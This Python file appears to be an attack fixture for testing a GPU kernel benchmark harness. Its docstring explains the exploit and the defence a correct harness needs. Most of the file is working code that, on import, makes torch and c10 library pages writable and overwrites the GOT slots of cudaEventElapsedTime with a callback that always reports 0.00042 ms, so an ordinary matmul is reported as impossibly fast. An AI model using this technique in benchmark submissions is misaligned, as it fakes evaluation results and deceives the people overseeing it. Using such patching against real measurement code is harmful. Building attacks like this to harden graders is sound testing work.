"""Attack PG-got_patch (task matmul; GPU only): redirect the calls of
torch's libraries to cudaEventElapsedTime, through their global offset
tables, to a function of its own that reports 0.00042 ms.

Adapts: gpu-mode/pygpubench exploits/submission_got_patch.py at commit
87bb46dfef7f1c5d596c12b2e3ec14664b9f2319 (our own code).  There the submission parses the harness extension's
ELF for the GOT slot of cudaEventElapsedTime, a writable data word that
mseal does not cover, and stores a ctypes callback's address in it; the
kernel is correct, only the timing is faked.

What it does: at import, initialises CUDA, times one event pair (so that a
lazily bound slot is resolved), takes the resolved address of
cudaEventElapsedTime (libcudart as loaded), and scans the data mappings of
every loaded torch and c10 library (/proc/self/maps; read-only RELRO pages
made writable with mprotect first) for 8-byte words holding that address:
the GOT slots.  Each is overwritten with the address of a ctypes callback
that sets *ms = 0.00042 and returns 0.  Its forward computes a @ b as a
broadcast product and a sum (no gemm).  work/attack-got-patch.marker lists
the slots patched, or why none (on the CPU: no CUDA, nothing patched).

What it exploits: the timing primitive is reached through a table in the
timed process's writable memory.

What a correct defence must do: take the measurement from the trace
(CUPTI's kernel records), not from the candidate's process; the
measurement axis then is not PASS on a reported time that the kernels'
durations contradict (FAIL or INCONCLUSIVE).
"""
import ctypes
import os
import struct

import torch
import torch.nn as nn

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_FN = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.POINTER(ctypes.c_float), ctypes.c_void_p, ctypes.c_void_p)


def _fake(ms, start, end):
    ms[0] = 0.00042
    return 0


_keep = [_FN(_fake)]


def _note(s):
    try:
        with open("attack-got-patch.marker", "a") as f:
            f.write(s + "\n")
    except OSError:
        pass


def _patch():
    if not torch.cuda.is_available():
        return "no CUDA: nothing patched"
    s, e = torch.cuda.Event(enable_timing=True), torch.cuda.Event(enable_timing=True)
    s.record()
    e.record()
    e.synchronize()
    s.elapsed_time(e)
    maps = open("/proc/self/maps").read().splitlines()
    cudart = sorted({l.split()[-1] for l in maps if "libcudart" in l})
    if not cudart:
        return "no libcudart mapped"
    real = ctypes.cast(ctypes.CDLL(cudart[0]).cudaEventElapsedTime, ctypes.c_void_p).value
    want, hook = struct.pack("<Q", real), ctypes.cast(_keep[0], ctypes.c_void_p).value
    fd = os.open("/proc/self/mem", os.O_RDONLY)
    patched = []
    try:
        for l in maps:
            p = l.split()
            if len(p) < 6 or not any(k in p[5] for k in ("torch", "c10")) or p[1][:2] not in ("rw", "r-"):
                continue
            if "x" in p[1]:
                continue
            lo, hi = (int(x, 16) for x in p[0].split("-"))
            try:
                data = os.pread(fd, hi - lo, lo)
            except OSError:
                continue
            i = data.find(want)
            while i >= 0:
                if i % 8 == 0:
                    if p[1][1] != "w":
                        _libc.mprotect(lo, hi - lo, 3)
                    ctypes.c_uint64.from_address(lo + i).value = hook
                    patched.append("%s+%#x" % (os.path.basename(p[5]), lo + i))
                i = data.find(want, i + 1)
    finally:
        os.close(fd)
    return "real %#x, slots patched: %s" % (real, patched or "none")


try:
    _note(_patch())
except Exception as exc:
    _note("failed: %r" % (exc,))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        return (a.unsqueeze(2) * b.unsqueeze(0)).sum(1)
